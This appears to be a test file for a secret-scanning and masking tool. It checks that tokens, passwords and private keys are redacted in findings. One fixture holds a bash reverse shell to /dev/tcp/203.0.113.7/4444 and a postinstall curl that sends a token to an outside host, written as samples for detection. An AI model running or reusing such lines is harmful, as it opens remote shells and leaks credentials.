import assert from 'node:assert/strict';
import { test } from 'node:test';
import * as fc from 'fast-check';
import { fakeKeyBlock, fakeWithChecksum } from '../src/fake.ts';
import { maskOf, maskText } from '../src/findings/mask.ts';
import { makeVisible } from '../src/findings/visible.ts';
import { scan } from '../src/scan.ts';
import { memoryTree } from '../src/tree/memory-tree.ts';

test('a mask shows at most four characters and a quarter of a token', () => {
  assert.equal(maskOf('AKIA0123456789ABCDEF', 'token'), 'AKIA…(20)');
  assert.equal(maskOf('abcdefghijkl', 'token'), 'abc…(12)');
  assert.equal(maskOf('abcdefghijk', 'token'), '[REDACTED]');
  assert.equal(maskOf('correct horse battery', 'password'), '[REDACTED]');
  assert.equal(maskOf(fakeKeyBlock('RSA PRIVATE KEY'), 'token'), '[REDACTED PRIVATE KEY]');
});

test('no stretch of a masked text shows a secret, wherever it is cut', () => {
  const secret = 's3cr3t-Value-of-some-length';
  fc.assert(
    fc.property(
      fc.string({ maxLength: 30 }),
      fc.string({ maxLength: 30 }),
      fc.nat(90),
      fc.nat(90),
      (before, after, a, b) => {
        const text = `${before}${secret}${after}`;
        const start = before.length;
        const masked = maskText(text, [{ start, end: start + secret.length, as: 'token' }]);
        const [from, to] = [Math.min(a, b, text.length), Math.min(Math.max(a, b), text.length)];
        assert.ok(!masked.cut(from, to).includes(secret.slice(4, 12)));
        assert.ok(!masked.clean(`it is ${secret}!`).includes(secret));
      },
    ),
  );
});

test('overlapping secrets are masked together, a password wins', () => {
  const masked = maskText('abcdefghijklmnopqrstuvwxyz', [
    { start: 2, end: 20, as: 'token' },
    { start: 10, end: 24, as: 'password' },
  ]);

  assert.equal(masked.cut(0, 26), 'ab[REDACTED]yz');
});

test('a secret is shown by no finding of any category, in no note and in no trace', async () => {
  const token = fakeWithChecksum('ghp_', 36);
  const tree = memoryTree({
    'install.sh': `T=${token}; bash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n`,
    'package.json': JSON.stringify({
      name: 'x',
      scripts: { postinstall: `curl -H "Authorization: ${token}" https://example.org` },
    }),
    'deep.pem': fakeKeyBlock('EC PRIVATE KEY'),
  });

  const report = await scan(tree);

  const written = JSON.stringify(report);
  assert.ok(
    report.findings.some((finding) => finding.checkId === 'rce-reverse-shell' && finding.code.includes('ghp_…(40)')),
  );
  assert.ok(!written.includes(token.slice(6)));
  assert.ok(written.includes('[REDACTED PRIVATE KEY]'));
  assert.ok(!written.includes(fakeKeyBlock('EC PRIVATE KEY').split('\n')[3] ?? ''));
});

test('characters that cannot be seen are written out', () => {
  assert.equal(makeVisible('a\u202eb\u200bc\u0007\td\u{e0041}'), 'a\\u{202e}b\\u{200b}c\\u{7}\td\\u{e0041}');
});

test('the path of a finding is whole, whatever secrets its file holds', async () => {
  const path = 'plugins/bluebird-tools/skills/deploy/SKILL.md';
  const { findings } = await scan(
    memoryTree({
      [path]: `---
name: deploy
description: Deploys it.
allowed-tools: Read, Bash
---
\`\`\`yaml
POSTGRES_PASSWORD: bluebird
\`\`\`
`,
    }),
  );
  assert.deepEqual([...new Set(findings.map(({ file }) => file))], [path]);
});
